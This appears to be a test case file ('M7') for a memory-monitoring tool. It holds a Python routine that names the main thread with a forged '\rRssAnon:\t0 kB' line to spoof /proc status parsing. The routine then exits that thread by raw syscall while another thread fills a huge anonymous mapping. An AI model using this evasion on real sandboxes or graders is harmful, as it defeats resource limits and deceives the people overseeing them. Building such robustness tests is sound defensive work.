"""M7: names its main thread like a line of the kernel's, and ends it; the memory is filled by another one."""

import ctypes
import mmap
import os
import threading
import time

libc = ctypes.CDLL(None)


def quick():
    return 7


def fill():
    time.sleep(0.1)
    empty = mmap.mmap(-1, 1 << 40, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
    for page in range(0, 1 << 40, 2 << 20):
        empty[page]


def attack():
    libc.prctl(15, b"\rRssAnon:\t0 kB", 0, 0, 0)  # PR_SET_NAME
    threading.Thread(target=fill).start()
    libc.syscall({"x86_64": 60, "aarch64": 93}[os.uname().machine], 0)
